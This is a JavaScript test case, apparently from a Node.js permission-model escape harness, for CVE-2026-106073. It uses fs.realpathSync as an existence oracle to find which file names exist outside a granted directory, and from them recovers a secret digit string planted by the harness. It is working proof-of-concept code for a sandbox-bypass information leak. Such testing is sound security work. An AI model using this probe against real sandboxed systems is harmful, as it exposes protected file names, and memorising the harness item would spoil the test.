// id: A25
// title: fs.realpathSync tells which names exist
// label: CVE-2026-106073 fixed in 22.23.4, 24.22.1 and 26.12.1 (incomplete CVE-2026-21715)
// reference: https://www.cve.org/CVERecord?id=CVE-2026-106073
// versions: >=20.0.0 <22.23.4 || >=23.0.0 <24.22.1 || >=25.0.0 <26.12.1
// measured: escapes: every version measured
// grants: --allow-fs-read={grant} --allow-fs-write={grant}
// prove: metadata
// stops: nothing
// setup: digits {secret}
'use strict';
const [grant, secret] = process.argv.slice(2);
const finish = (text) => { process.stdout.write(text.split('\n', 1)[0] + '\n'); process.exit(); };
const escaped = (evidence) => finish(`ESCAPED ${evidence}`);
const DENIAL = /^(ERR_ACCESS_DENIED|ERR_DLOPEN_DISABLED|ERR_DLOPEN_FAILED|EACCES|EPERM|ENOSYS|EXDEV|EROFS)$/;
const failed = (error) => finish(`${DENIAL.test(error.code) ? 'DENIED' : 'BROKEN'} ${error.code || error.name} ${error.message}`);
process.on('uncaughtException', failed);

const fs = require('fs');
const exists = (file) => {
  try {
    fs.realpathSync(file);
    return true;
  } catch (error) {
    if (error.code === 'ENOENT') return false;
    throw error;
  }
};
try {
  // The harness made one of sixteen names a digit, so that the digits can only be guessed by asking.
  let found = '';
  for (let place = 0; place < 8; place++)
    for (const digit of '0123456789abcdef')
      if (exists(`${secret}/${place}-${digit}`)) found += digit;
  escaped(`exists=${found}`);
} catch (error) {
  failed(error);
}
